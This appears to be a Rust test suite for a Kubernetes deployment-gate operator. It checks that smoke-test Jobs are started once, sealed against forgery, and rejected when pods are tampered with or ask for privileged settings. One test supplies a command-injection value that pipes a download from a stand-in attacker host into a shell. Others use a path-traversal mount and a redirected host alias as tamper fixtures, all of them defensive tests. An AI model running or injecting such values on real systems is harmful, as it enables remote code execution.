//! The job gate against a cluster kept in memory: one Job per run, found again after a
//! restart, judged only when it is the operator's own and by the pods it controls, and never
//! started a second time once it is gone.

use std::collections::BTreeMap;
use std::sync::{Arc, Mutex};

use futures::future::BoxFuture;
use k8s_openapi::api::batch::v1::{Job, JobCondition, JobStatus};
use k8s_openapi::api::core::v1::{
    ContainerState, ContainerStateTerminated, ContainerStatus, Pod, PodStatus,
};
use k8s_openapi::apimachinery::pkg::apis::meta::v1::{ObjectMeta, OwnerReference, Time};
use kube::ResourceExt;

use super::job::*;
use super::{GateContext, GateEnv};
use crate::api::gate::{GateList, JobContainer, JobEnvVar, JobGate, JobPodTemplate};
use crate::api::release::StagePhaseForRelease as RP;
use crate::api::release::{GateResultStatus, GateVerdict, ReleaseStageStatus};
use crate::identity::IdentityKey;

const KEY: &[u8] = b"the operator's identity key, 32 bytes or more";

/// The Jobs and pods of a namespace, as the apiserver and an index that sees all would have
/// them, and the operator's key.
#[derive(Debug)]
struct Cluster {
    jobs: Mutex<BTreeMap<String, Job>>,
    pods: Mutex<Vec<Pod>>,
    created: Mutex<u32>,
    /// The index has not seen any Job yet (the apiserver has).
    index_lags: bool,
    key: IdentityKey,
}

impl Cluster {
    fn new() -> Arc<Cluster> {
        Arc::new(Cluster {
            jobs: Mutex::default(),
            pods: Mutex::default(),
            created: Mutex::default(),
            index_lags: false,
            key: IdentityKey::from_bytes(KEY),
        })
    }

    /// The same Jobs and pods, as another operator sees them: under `key`, its index not
    /// caught up.
    fn seen_with(&self, key: &[u8]) -> Arc<Cluster> {
        Arc::new(Cluster {
            jobs: Mutex::new(self.jobs.lock().unwrap().clone()),
            pods: Mutex::new(self.pods.lock().unwrap().clone()),
            created: Mutex::default(),
            index_lags: true,
            key: IdentityKey::from_bytes(key),
        })
    }

    fn created(&self) -> u32 {
        *self.created.lock().unwrap()
    }

    fn the_job(&self) -> Job {
        let jobs = self.jobs.lock().unwrap();
        jobs.values().next().expect("a Job").clone()
    }

    fn finish(&self, condition: &str, reason: Option<&str>) {
        let mut jobs = self.jobs.lock().unwrap();
        let job = jobs.values_mut().next().expect("a Job");
        job.status = Some(JobStatus {
            conditions: Some(vec![JobCondition {
                type_: condition.into(),
                status: "True".into(),
                reason: reason.map(str::to_string),
                message: Some("as the Job controller says".into()),
                ..JobCondition::default()
            }]),
            ..JobStatus::default()
        });
    }

    /// A pod under the Job, made from `spec` (its template, unless someone else made it).
    fn add_pod(&self, job: &Job, name: &str, phase: &str, exit: Option<(i32, &str)>) {
        let spec = job.spec.clone().unwrap().template.spec.unwrap();
        let status = exit.map(|(code, message)| ContainerStatus {
            name: "smoke".into(),
            state: Some(ContainerState {
                terminated: Some(ContainerStateTerminated {
                    exit_code: code,
                    message: Some(message.into()),
                    ..ContainerStateTerminated::default()
                }),
                ..ContainerState::default()
            }),
            ..ContainerStatus::default()
        });
        let pod = Pod {
            metadata: ObjectMeta {
                name: Some(name.into()),
                namespace: job.namespace(),
                labels: Some(BTreeMap::from([(
                    crate::api::GATE_JOB_LABEL.to_string(),
                    job.name_any(),
                )])),
                owner_references: Some(vec![OwnerReference {
                    api_version: "batch/v1".into(),
                    kind: "Job".into(),
                    name: job.name_any(),
                    uid: job.uid().unwrap(),
                    controller: Some(true),
                    block_owner_deletion: Some(true),
                }]),
                ..ObjectMeta::default()
            },
            spec: Some(spec),
            status: Some(PodStatus {
                phase: Some(phase.into()),
                container_statuses: status.map(|s| vec![s]),
                ..PodStatus::default()
            }),
        };
        self.pods.lock().unwrap().push(pod);
    }
}

impl JobHost for Cluster {
    fn job(&self, _: &str, name: &str) -> Option<Arc<Job>> {
        if self.index_lags {
            return None;
        }
        self.jobs.lock().unwrap().get(name).cloned().map(Arc::new)
    }

    fn fetch(&self, _: &str, name: &str) -> BoxFuture<'_, Result<Option<Job>, String>> {
        let job = self.jobs.lock().unwrap().get(name).cloned();
        Box::pin(async move { Ok(job) })
    }

    fn pods(&self, _: &str, job: &str) -> Vec<Arc<Pod>> {
        let pods = self.pods.lock().unwrap();
        pods.iter()
            .filter(|p| {
                p.labels()
                    .get(crate::api::GATE_JOB_LABEL)
                    .map(String::as_str)
                    == Some(job)
            })
            .cloned()
            .map(Arc::new)
            .collect()
    }

    fn create(&self, mut job: Job) -> BoxFuture<'_, Result<Option<String>, String>> {
        let mut jobs = self.jobs.lock().unwrap();
        let name = job.name_any();
        let created = (!jobs.contains_key(&name)).then(|| format!("uid-{name}"));
        if let Some(uid) = &created {
            job.metadata.uid = Some(uid.clone());
            job.metadata.creation_timestamp = Some(Time(ctx().now));
            jobs.insert(name, job);
            *self.created.lock().unwrap() += 1;
        }
        Box::pin(async move { Ok(created) })
    }

    fn refusals(&self, _: &str, _: &str) -> u32 {
        0
    }

    fn seal(&self, facts: &serde_json::Value) -> String {
        self.key.seal(facts)
    }

    fn sealed(&self, facts: &serde_json::Value, seal: &str) -> bool {
        self.key.sealed(facts, seal)
    }
}

fn smoke_test() -> JobGate {
    JobGate {
        template: JobPodTemplate {
            service_account_name: "smoke-tests".into(),
            containers: vec![JobContainer {
                name: "smoke".into(),
                image: "curlimages/curl:8.5.0".into(),
                command: vec![
                    "sh".into(),
                    "-c".into(),
                    "curl -fsS \"$GREENLIGHT_SERVICE_URL\"".into(),
                ],
                args: vec![],
                env: vec![JobEnvVar {
                    name: "PATH_TO_CHECK".into(),
                    value: Some("/healthz".into()),
                    secret_key_ref: None,
                }],
                resources: None,
                working_dir: None,
                security_context: None,
            }],
            host_network: None,
            host_pid: None,
            host_ipc: None,
        },
        backoff_limit: None,
        active_deadline_seconds: None,
        ttl_seconds_after_finished: None,
    }
}

pub(super) fn ctx() -> GateContext {
    GateContext {
        namespace: "shop".into(),
        pipeline: "shop".into(),
        stage: "test".into(),
        release: "web-2".into(),
        version: "2.0".into(),
        artifacts: vec![],
        release_stages: Default::default(),
        primary_workload: "web-primary".into(),
        canary_workload: "web-canary".into(),
        secrets: Default::default(),
        approvals: vec![],
        release_author: Ok("ci".into()),
        release_ref: None,
        configuration: None,
        gate: "smoke".into(),
        list: GateList::Verify,
        attempt: 1,
        run: Some("2026-12-07T01:00:00Z".parse().unwrap()),
        stage_uid: "stage-uid".into(),
        measuring: false,
        service_port: 8080,
        change_ticket: None,
        ticket_used_by: vec![],
        emergency: None,
        now: "2026-12-07T01:00:05Z".parse().unwrap(),
    }
}

fn check(cluster: &Arc<Cluster>) -> Box<dyn super::GateCheck> {
    let env = GateEnv {
        http: super::http_client(&Default::default()),
        webhook_allow: Default::default(),
        prometheus_address: None,
        jobs: Some(cluster.clone()),
        operator_account: Some("greenlight".into()),
    };
    JobCheck::compile(&smoke_test(), &env).unwrap_or_else(|e| panic!("{e:?}"))
}

/// The result the machine would have recorded for the gate at this stage.
fn recorded(ctx: &mut GateContext, result: GateVerdict, job: &str) {
    recorded_with_uid(ctx, result, job, None)
}

fn recorded_with_uid(ctx: &mut GateContext, result: GateVerdict, job: &str, uid: Option<&str>) {
    let mut entry = ReleaseStageStatus::new(RP::Progressing);
    entry.checks.push(GateResultStatus {
        name: ctx.gate.clone(),
        result,
        value: None,
        message: "Job completed in 1s".into(),
        since: ctx.now,
        list: Some(ctx.list),
        job: Some(job.into()),
        job_uid: uid.map(str::to_string),
    });
    ctx.release_stages.insert(ctx.stage.clone(), entry);
}

#[tokio::test]
async fn a_job_is_started_once_and_the_next_pass_finds_it_instead_of_starting_another() {
    let cluster = Cluster::new();
    let gate = check(&cluster);
    let first = gate.evaluate(&ctx()).await;
    assert_eq!(first.verdict, GateVerdict::Pending);
    assert_eq!(
        first.job.as_deref(),
        Some(cluster.the_job().name_any().as_str())
    );
    let second = gate.evaluate(&ctx()).await;
    assert_eq!(second.verdict, GateVerdict::Pending, "{}", second.message);
    assert!(second.message.contains("runs"), "{}", second.message);
    assert_eq!(cluster.created(), 1);
    let mut a_minute_on = ctx();
    a_minute_on.now = jiff::Timestamp::from_second(a_minute_on.now.as_second() + 61).unwrap();
    let refused = gate.evaluate(&a_minute_on).await;
    assert_eq!(
        refused.verdict,
        GateVerdict::Inconclusive,
        "no pod after a minute"
    );
    assert!(refused.message.contains("no pod"), "{}", refused.message);
}

#[tokio::test]
async fn a_restarted_operator_judges_the_job_it_finds_and_starts_no_second() {
    let cluster = Cluster::new();
    check(&cluster).evaluate(&ctx()).await;
    let job = cluster.the_job();
    cluster.finish("Complete", None);
    cluster.add_pod(&job, "smoke-abc", "Succeeded", None);
    let restarted = cluster.seen_with(KEY);
    let outcome = check(&restarted).evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Passed, "{}", outcome.message);
    assert_eq!(restarted.created(), 0, "never a second Job");
}

#[tokio::test]
async fn a_complete_job_someone_else_created_under_the_name_fails_the_check() {
    let cluster = Cluster::new();
    check(&cluster).evaluate(&ctx()).await;
    let mut forged = cluster.the_job();
    forged
        .annotations_mut()
        .remove(crate::api::JOB_SEAL_ANNOTATION);
    cluster
        .jobs
        .lock()
        .unwrap()
        .insert(forged.name_any(), forged.clone());
    cluster.finish("Complete", None);
    cluster.add_pod(&forged, "forged", "Succeeded", None);
    let outcome = check(&cluster).evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert_eq!(outcome.job, None, "a forged Job is not recorded as ours");
}

#[tokio::test]
async fn a_job_whose_sealed_fields_were_changed_fails_the_check() {
    let cluster = Cluster::new();
    check(&cluster).evaluate(&ctx()).await;
    let mut job = cluster.the_job();
    job.spec.as_mut().unwrap().backoff_limit = Some(6);
    cluster
        .jobs
        .lock()
        .unwrap()
        .insert(job.name_any(), job.clone());
    cluster.finish("Complete", None);
    cluster.add_pod(&job, "smoke-abc", "Succeeded", None);
    let outcome = check(&cluster).evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert!(
        outcome.message.contains("seal does not check out"),
        "{}",
        outcome.message
    );
}

#[tokio::test]
async fn a_job_made_again_under_the_name_after_greenlight_started_its_own_fails_the_check() {
    let cluster = Cluster::new();
    let started = check(&cluster).evaluate(&ctx()).await;
    let (name, uid) = (started.job.clone().unwrap(), started.job_uid.clone());
    assert_eq!(uid.as_deref(), Some(format!("uid-{name}").as_str()));
    // Deleted and made again, seal and all, by someone who copied it.
    let mut copy = cluster.the_job();
    copy.metadata.uid = Some("uid-of-the-copy".into());
    cluster
        .jobs
        .lock()
        .unwrap()
        .insert(name.clone(), copy.clone());
    cluster.finish("Complete", None);
    cluster.add_pod(&copy, "copy-pod", "Succeeded", None);
    let mut after = ctx();
    recorded_with_uid(&mut after, GateVerdict::Pending, &name, uid.as_deref());
    let outcome = check(&cluster).evaluate(&after).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert!(
        outcome.message.contains("made again"),
        "{}",
        outcome.message
    );
    // Without the recorded uid (a restart before it was written), the seal alone decides.
    let outcome = check(&cluster).evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Passed, "{}", outcome.message);
}

#[tokio::test]
async fn a_pod_under_the_job_with_anything_added_to_what_it_runs_makes_its_result_unusable() {
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    let mut job = cluster.the_job();
    cluster.finish("Complete", None);
    let template = job.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
    template.host_aliases = Some(vec![k8s_openapi::api::core::v1::HostAlias {
        hostnames: Some(vec!["web-primary.shop.svc".into()]),
        ip: "10.0.0.66".into(),
    }]);
    cluster.add_pod(&job, "with-a-host-alias", "Succeeded", None);
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert!(
        outcome.message.contains("with-a-host-alias"),
        "{}",
        outcome.message
    );
}

#[tokio::test]
async fn a_complete_job_passes_only_once_a_pod_that_ran_its_template_is_seen_to_succeed() {
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    cluster.finish("Complete", None);
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(
        outcome.verdict,
        GateVerdict::Inconclusive,
        "{}",
        outcome.message
    );
    cluster.add_pod(&cluster.the_job(), "smoke-abc", "Succeeded", None);
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Passed, "{}", outcome.message);
}

#[tokio::test]
async fn a_pod_under_the_job_that_runs_something_else_makes_its_result_unusable() {
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    let mut job = cluster.the_job();
    cluster.finish("Complete", None);
    let template = job.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
    template.containers[0].command = Some(vec!["true".into()]);
    cluster.add_pod(&job, "made-by-hand", "Succeeded", None);
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert!(
        outcome.message.contains("made-by-hand"),
        "{}",
        outcome.message
    );
}

#[tokio::test]
async fn a_failed_job_fails_with_its_containers_exit_code_and_last_output() {
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    cluster.finish("Failed", Some("BackoffLimitExceeded"));
    let line = "curl: (22) The requested URL returned error: 503";
    cluster.add_pod(&cluster.the_job(), "smoke-abc", "Failed", Some((22, line)));
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed);
    assert!(outcome.message.contains(line), "{}", outcome.message);
    assert_eq!(outcome.value.as_deref(), Some("22"));
}

#[tokio::test]
async fn a_job_past_its_deadline_is_inconclusive_not_failed() {
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    cluster.finish("Failed", Some("DeadlineExceeded"));
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(
        outcome.verdict,
        GateVerdict::Inconclusive,
        "{}",
        outcome.message
    );
    assert!(outcome.message.contains("deadline"), "{}", outcome.message);
}

#[tokio::test]
async fn a_started_job_that_is_gone_is_never_started_again_a_verdict_it_gave_stands_and_none_fails()
{
    let cluster = Cluster::new();
    let gate = check(&cluster);
    let started = gate.evaluate(&ctx()).await;
    let name = started.job.clone().expect("the Job started");
    cluster.jobs.lock().unwrap().clear();
    let mut running = ctx();
    recorded(&mut running, GateVerdict::Pending, &name);
    let outcome = gate.evaluate(&running).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert!(
        outcome.message.contains("not started again"),
        "{}",
        outcome.message
    );
    let mut passed = ctx();
    recorded(&mut passed, GateVerdict::Passed, &name);
    let outcome = gate.evaluate(&passed).await;
    assert_eq!(outcome.verdict, GateVerdict::Passed, "{}", outcome.message);
    assert_eq!(cluster.created(), 1, "started once, in all");
}

#[test]
fn each_run_attempt_and_configuration_change_names_its_own_job_within_63_characters() {
    let digest = "d1";
    let key = IdentityKey::from_bytes(KEY);
    let job_name = |c: &GateContext, d: &str| job_name(c, d, |w| key.seal(&w.into()));
    let other_key = IdentityKey::from_bytes(b"someone else's key, thirty-two bytes at least");
    let guessed = super::job::job_name(&ctx(), digest, |w| other_key.seal(&w.into()));
    let base = job_name(&ctx(), digest);
    assert_ne!(
        guessed, base,
        "nobody without the key can tell the name beforehand"
    );
    assert_eq!(
        base,
        job_name(&ctx(), digest),
        "a restart finds the same name"
    );
    let mut later_run = ctx();
    later_run.run = Some("2026-12-07T02:00:00Z".parse().unwrap());
    let mut retried = ctx();
    retried.attempt = 2;
    let mut changed = ctx();
    changed.configuration = Some(("tpl".into(), ctx().now));
    let mut other_list = ctx();
    other_list.list = GateList::PreRollout;
    for other in [later_run, retried, changed, other_list] {
        assert_ne!(job_name(&other, digest), base);
    }
    assert_ne!(
        job_name(&ctx(), "d2"),
        base,
        "an edited gate runs its own Job"
    );
    let mut long = ctx();
    long.stage = format!("{}.{}", "a".repeat(50), "b");
    long.gate = "-x".into();
    let name = job_name(&long, digest);
    assert!(name.len() <= 63, "{name}");
    let head = &name[..name.len() - 11];
    assert!(!head.ends_with(['-', '.']), "{name}");
}

#[test]
fn the_releases_facts_reach_the_job_as_environment_variables_never_in_its_command() {
    let mut c = ctx();
    c.version = "2.0; curl evil.example | sh".into();
    let job = build_job(&smoke_test(), &c, "test-smoke-0123456789");
    let pod = job.spec.unwrap().template.spec.unwrap();
    let container = &pod.containers[0];
    assert_eq!(
        container.command,
        Some(smoke_test().template.containers[0].command.clone())
    );
    let env: BTreeMap<_, _> = container
        .env
        .iter()
        .flatten()
        .map(|e| (e.name.as_str(), e.value.clone().unwrap_or_default()))
        .collect();
    assert_eq!(env["GREENLIGHT_VERSION"], c.version);
    assert_eq!(
        env["GREENLIGHT_SERVICE_URL"],
        "http://web-primary.shop.svc:8080"
    );
    assert_eq!(env["PATH_TO_CHECK"], "/healthz");
    assert_eq!(pod.service_account_name.as_deref(), Some("smoke-tests"));
    assert_eq!(
        container.termination_message_policy.as_deref(),
        Some("FallbackToLogsOnError")
    );
}

#[test]
fn a_template_that_asks_for_the_host_privileges_or_the_operators_account_is_refused_by_field() {
    let mut spec = smoke_test();
    spec.template.host_network = Some(true);
    spec.template.service_account_name = "greenlight".into();
    spec.template.containers[0].security_context = Some(crate::api::gate::JobSecurityContext {
        privileged: Some(true),
        ..Default::default()
    });
    let fields: Vec<String> = field_errors(&spec, Some("greenlight"))
        .into_iter()
        .map(|e| e.field)
        .collect();
    for field in [
        "spec.job.template.hostNetwork",
        "spec.job.template.serviceAccountName",
        "spec.job.template.containers[0].securityContext.privileged",
    ] {
        assert!(fields.iter().any(|f| f == field), "{field} in {fields:?}");
    }
    assert!(field_errors(&smoke_test(), Some("greenlight")).is_empty());
}

#[tokio::test]
async fn a_pod_that_mounts_a_volume_through_the_token_path_is_not_the_templates() {
    use k8s_openapi::api::core::v1::{ProjectedVolumeSource, Volume, VolumeMount};
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    let mut job = cluster.the_job();
    cluster.finish("Complete", None);
    let template = job.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
    template.volumes = Some(vec![Volume {
        name: "kube-api-access-x".into(),
        projected: Some(ProjectedVolumeSource::default()),
        ..Volume::default()
    }]);
    template.containers[0].volume_mounts = Some(vec![VolumeMount {
        name: "kube-api-access-x".into(),
        mount_path: "/var/run/secrets/kubernetes.io/serviceaccount/../../../../usr/local/bin"
            .into(),
        read_only: Some(true),
        ..VolumeMount::default()
    }]);
    cluster.add_pod(&job, "climbs-out", "Succeeded", None);
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Failed, "{}", outcome.message);
    assert!(
        outcome.message.contains("climbs-out"),
        "{}",
        outcome.message
    );
}

#[tokio::test]
async fn a_pod_with_only_what_admission_adds_is_the_templates_and_its_verdict_counts() {
    use k8s_openapi::api::core::v1::{
        ConfigMapProjection, DownwardAPIProjection, ProjectedVolumeSource,
        ServiceAccountTokenProjection, Toleration, Volume, VolumeMount, VolumeProjection,
    };
    let cluster = Cluster::new();
    let gate = check(&cluster);
    gate.evaluate(&ctx()).await;
    let mut job = cluster.the_job();
    cluster.finish("Complete", None);
    let template = job.spec.as_mut().unwrap().template.spec.as_mut().unwrap();
    let sources = vec![
        VolumeProjection {
            service_account_token: Some(ServiceAccountTokenProjection {
                path: "token".into(),
                expiration_seconds: Some(3607),
                ..Default::default()
            }),
            ..Default::default()
        },
        VolumeProjection {
            config_map: Some(ConfigMapProjection {
                name: "kube-root-ca.crt".into(),
                ..Default::default()
            }),
            ..Default::default()
        },
        VolumeProjection {
            downward_api: Some(DownwardAPIProjection::default()),
            ..Default::default()
        },
    ];
    template.volumes = Some(vec![Volume {
        name: "kube-api-access-7xk2p".into(),
        projected: Some(ProjectedVolumeSource {
            sources: Some(sources),
            ..Default::default()
        }),
        ..Volume::default()
    }]);
    template.containers[0].volume_mounts = Some(vec![VolumeMount {
        name: "kube-api-access-7xk2p".into(),
        mount_path: "/var/run/secrets/kubernetes.io/serviceaccount".into(),
        read_only: Some(true),
        ..VolumeMount::default()
    }]);
    template.node_name = Some("node-1".into());
    template.tolerations = Some(vec![Toleration {
        key: Some("node.kubernetes.io/not-ready".into()),
        ..Default::default()
    }]);
    cluster.add_pod(&job, "admitted", "Succeeded", None);
    let outcome = gate.evaluate(&ctx()).await;
    assert_eq!(outcome.verdict, GateVerdict::Passed, "{}", outcome.message);
}
